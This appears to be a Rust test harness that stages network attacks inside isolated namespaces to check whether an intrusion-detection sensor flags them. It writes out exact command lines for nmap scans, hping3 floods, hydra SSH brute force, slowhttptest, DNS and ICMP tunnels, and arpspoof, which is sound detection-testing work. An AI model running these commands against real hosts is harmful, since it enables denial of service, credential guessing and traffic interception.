//! Where a scenario is played, and the tools that play it.

use std::fs;
use std::path::Path;
use std::thread::{scope, sleep};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use anyhow::{Context as _, Result, ensure};
use nix::sys::signal::Signal;
use support::{Dns, Guard, Iperf, Namespace, Pair, Scene, run_timeout, until};

use crate::generate::{self, Gaps};
use crate::scenario::Scenario;
use crate::verdict::Verdict;

/// Addresses behind the server, none of which is there.
pub const SWEPT: &str = "10.78.0.0/24";
pub const SWEPT_PREFIX: &str = "10.78.0.";
/// A server outside.
pub const OUTSIDE: &str = "198.51.100.10";
/// A name server outside.
pub const RESOLVER: &str = "198.51.100.53";
/// Neighbours of the server, where there are any beside the client.
pub const GATEWAY: &str = "10.77.0.254";
pub const THIEF: &str = "10.77.0.66";

const TIMEOUT: Duration = Duration::from_secs(90);
/// How long an incident may take after the attack is over, slow machines included.
const PATIENCE: Duration = Duration::from_secs(15);
/// Time for what else an attack is taken for.
const SETTLE: Duration = Duration::from_secs(4);
/// Where iperf3 listens outside.
const BULK_PORT: u16 = 5202;

pub fn play(scenario: Scenario, captures: Option<&Path>) -> Result<Verdict> {
    let name = scenario.name();
    eprintln!("{name}: ordinary traffic");
    let stage = Stage::set(scenario)?;
    let scene = &stage.scene;
    let mut sensor = scene.watch("warmup = \"10s\"\nsensor = \"lab\"\n[metrics]\nlisten = \"off\"\n")?;
    scene.ordinary_traffic(300)?;
    sensor.wait_for_log("saved the baseline")?;
    scene.ordinary_traffic(30)?;
    let _recorder =
        captures.map(|folder| record(&scene.pair.server, &folder.join(format!("{name}.pcap")))).transpose()?;
    stage.past(scenario)?;
    eprintln!("{name}: the attack");
    let began = epoch_seconds();
    let said = scope(|threads| {
        // What an attack leaves of it, if it is a flood.
        let beside = threads.spawn(|| {
            if scenario == Scenario::Exfiltration { scene.web_pages(300) } else { scene.ordinary_traffic(30) }
        });
        let said = stage.attack(scenario);
        if let Ok(Err(error)) = beside.join() {
            eprintln!("{name}: ordinary traffic beside the attack: {error:#}");
        }
        said
    })?;
    if let Some(expected) = scenario.expected()
        && sensor.opened(expected.class, PATIENCE).is_err()
    {
        eprintln!("{name}: no {}; the tool said:\n{said}", expected.class);
    }
    sleep(SETTLE);
    let ended = sensor.leuko.terminate(Signal::SIGTERM, TIMEOUT)?;
    ensure!(ended.success(), "leuko: {ended}: {}", sensor.leuko.stderr());
    Ok(Verdict::of(scenario, sensor.incidents(), began))
}

/// The scene, and what a scenario has beyond it.
struct Stage {
    scene: Scene,
    bulk: Option<Iperf>,
    thief: Option<Namespace>,
    _gateway: Option<Namespace>,
    _names: Option<Dns>,
    _servers: Vec<Guard>,
}

impl Stage {
    fn set(scenario: Scenario) -> Result<Self> {
        let scene = Scene::start()?;
        let Pair { client, server } = &scene.pair;
        // As any server; the client drops what is not for it.
        server.ip(&format!("route add default via {}", Pair::CLIENT))?;
        for outside in [OUTSIDE, RESOLVER] {
            client.ip(&format!("address add {outside}/32 dev lo"))?;
        }
        let (mut bulk, mut servers, mut names) = (None, Vec::new(), None);
        let (mut thief, mut gateway) = (None, None);
        if scenario.has_bulk() {
            bulk = Some(Iperf::start(client, BULK_PORT)?);
        }
        if scenario == Scenario::DnsExfiltration {
            names = Some(Dns::start_at(client, RESOLVER)?);
        }
        if scenario == Scenario::DnsTunnel {
            let args = ["-f", "-c", "-P", "lab", "-l", RESOLVER, "172.31.99.1/27", "t.example.org"];
            servers.push(client.spawn("iodined", &args)?);
        }
        if matches!(scenario, Scenario::IcmpTunnel | Scenario::IcmpUpload) {
            servers.push(client.spawn("ptunnel", &[])?);
        }
        if scenario == Scenario::Amplification {
            for address in generate::reflectors() {
                client.ip(&format!("address add {address}/32 dev lo"))?;
            }
        }
        if scenario == Scenario::SlowRead {
            fs::write(scene.web_root().join("big"), vec![b'x'; 4_000_000])?;
        }
        if matches!(scenario, Scenario::ArpSpoof | Scenario::ArpSpoofAsked) {
            thief = Some(scene.neighbour("thief", THIEF)?);
            gateway = Some(scene.neighbour("gateway", GATEWAY)?);
        }
        Ok(Self { scene, bulk, thief, _gateway: gateway, _names: names, _servers: servers })
    }

    /// What a scenario needs to have happened before.
    fn past(&self, scenario: Scenario) -> Result<()> {
        let Pair { client, server } = &self.scene.pair;
        if matches!(scenario, Scenario::Exfiltration | Scenario::ExfiltrationBusy) {
            eprintln!("{}: small uploads for two minutes", scenario.name());
            generate::calls(server, client, (OUTSIDE, 443), 40, Gaps::AnyTime(Duration::from_secs(3)), 20_000)?;
        }
        if matches!(scenario, Scenario::ArpSpoof | Scenario::ArpSpoofAsked) {
            run_tool(server, "nmap", &format!("-sn -n {GATEWAY}"))?;
        }
        if scenario == Scenario::ArpSpoof {
            sleep(Duration::from_secs(12));
        }
        Ok(())
    }

    /// What the tool says. Its exit status means nothing: hping3 fails when nobody answers.
    fn attack(&self, scenario: Scenario) -> Result<String> {
        let Pair { client, server } = &self.scene.pair;
        let target = Pair::SERVER;
        let done = |()| String::new();
        let nmap = |args: &str| run_tool(client, "nmap", &format!("{args} {target}"));
        let hping = |args: &str| run_tool(client, "hping3", &format!("-q {args} {target}"));
        match scenario {
            Scenario::All => Ok(String::new()),
            Scenario::Normal => self.scene.ordinary_traffic(100).map(done),
            Scenario::PortScan => nmap("-sS -n -Pn --max-retries 1"),
            Scenario::ConnectScan => nmap("-sT -n -Pn --max-retries 1"),
            Scenario::UdpScan => nmap("-sU -n -Pn -p 1-150 --min-rate 50 --max-retries 1 --host-timeout 60s"),
            Scenario::SlowScan => nmap("-sS -n -Pn --max-retries 0 --scan-delay 1500ms -p 1000-1029"),
            Scenario::HostScan => {
                client.ip(&format!("route add {SWEPT} via {target}"))?;
                run_tool(client, "nmap", &format!("-sn -n -PS22 --min-rate 50 --max-retries 1 {SWEPT}"))
            }
            Scenario::ArpSweep => run_tool(client, "nmap", "-sn -n -PR 10.77.0.0/24"),
            Scenario::SynFlood => hping("-S -p 80 -i u200 -c 6000"),
            Scenario::SpoofedSynFlood => hping("-S --rand-source -p 80 -i u200 -c 6000"),
            Scenario::ConnectionFlood => generate::connections(client, (target, 80), false, 4).map(done),
            Scenario::PageFlood => generate::connections(client, (target, 80), true, 10).map(done),
            Scenario::UdpFlood => hping("--udp -d 64 -p 7777 -i u100 -c 20000"),
            Scenario::IcmpFlood => hping("--icmp -d 64 -i u100 -c 30000"),
            Scenario::Amplification => generate::answers(client, target, 20_000).map(done),
            Scenario::BruteForce => {
                let passwords = tempfile::NamedTempFile::new().context("make a list of passwords")?;
                fs::write(passwords.path(), (0..15).map(|n| format!("guess-{n}\n")).collect::<String>())?;
                let list = passwords.path().display();
                run_tool(client, "hydra", &format!("-l root -P {list} -t 4 -I ssh://{target}"))
            }
            Scenario::SlowHeaders => {
                let url = format!("http://{target}/");
                run_tool(client, "slowhttptest", &format!("-H -c 200 -r 50 -i 5 -l 30 -x 24 -p 5 -u {url}"))
            }
            Scenario::SlowRead => {
                let url = format!("http://{target}/big");
                run_tool(
                    client,
                    "slowhttptest",
                    &format!("-X -c 200 -r 50 -l 30 -w 512 -y 1024 -n 5 -z 32 -p 5 -u {url}"),
                )
            }
            Scenario::Beacon => {
                generate::calls(server, client, (OUTSIDE, 443), 35, Gaps::Steady(Duration::from_secs(2)), 300).map(done)
            }
            Scenario::DnsTunnel => {
                let tunnel = server.spawn("iodine", &["-f", "-r", "-P", "lab", RESOLVER, "t.example.org"])?;
                let up = || server.ip("-o address show").ok().filter(|text| text.contains("172.31.99."));
                until("the tunnel", Duration::from_secs(40), up).with_context(|| tunnel.log())?;
                let sent = run_tool(server, "iperf3", &format!("-c 172.31.99.1 -p {BULK_PORT} -t 15 -b 40k -l 500"));
                Ok(format!("{}{}", sent?, tunnel.log()))
            }
            Scenario::DnsExfiltration => {
                generate::long_names(server, RESOLVER, 150, Duration::from_millis(200)).map(done)
            }
            Scenario::IcmpTunnel | Scenario::IcmpUpload => {
                let port = BULK_PORT.to_string();
                let args = ["-p", Pair::CLIENT, "-lp", "8000", "-da", "127.0.0.1", "-dp", &port];
                let tunnel = server.spawn("ptunnel", &args)?;
                sleep(Duration::from_secs(1));
                let direction = if scenario == Scenario::IcmpTunnel { " -R" } else { "" };
                let sent =
                    run_tool(server, "iperf3", &format!("-c 127.0.0.1 -p 8000 -t 10 -b 400k -l 1000{direction}"));
                Ok(format!("{}{}", sent?, tunnel.log()))
            }
            Scenario::Exfiltration | Scenario::ExfiltrationBusy => {
                let bulk = self.bulk.as_ref().context("a server for bulk")?;
                bulk.send(server, OUTSIDE, 8, &["-b", "200M"]).map(|_| String::new())
            }
            Scenario::ArpSpoof | Scenario::ArpSpoofAsked => {
                let thief = self.thief.as_ref().context("a thief")?;
                let mut spoofing = thief.spawn("arpspoof", &["-i", "eth0", "-t", target, "-r", GATEWAY])?;
                sleep(Duration::from_secs(20));
                spoofing.signal(Signal::SIGINT)?;
                // It corrects the tables before it ends.
                let _ = spoofing.wait(Duration::from_secs(15));
                Ok(spoofing.log())
            }
        }
    }
}

/// Until it is dropped, or there is enough.
fn record(server: &Namespace, file: &Path) -> Result<Guard> {
    let file = file.to_string_lossy();
    let tcpdump =
        server.spawn("tcpdump", &["-i", "eth0", "-U", "-s", "256", "-c", "200000", "-Z", "root", "-w", &file])?;
    until("tcpdump", TIMEOUT, || tcpdump.log().contains("listening on").then_some(()))
        .with_context(|| tcpdump.log())?;
    Ok(tcpdump)
}

fn run_tool(namespace: &Namespace, program: &str, words: &str) -> Result<String> {
    let mut command = namespace.command(program);
    let output = run_timeout(command.args(words.split(' ')), TIMEOUT)?;
    Ok(format!("{}{}", output.stdout, output.stderr))
}

#[expect(clippy::disallowed_methods, reason = "event time of a live sensor is the wall clock")]
fn epoch_seconds() -> f64 {
    SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default().as_secs_f64()
}
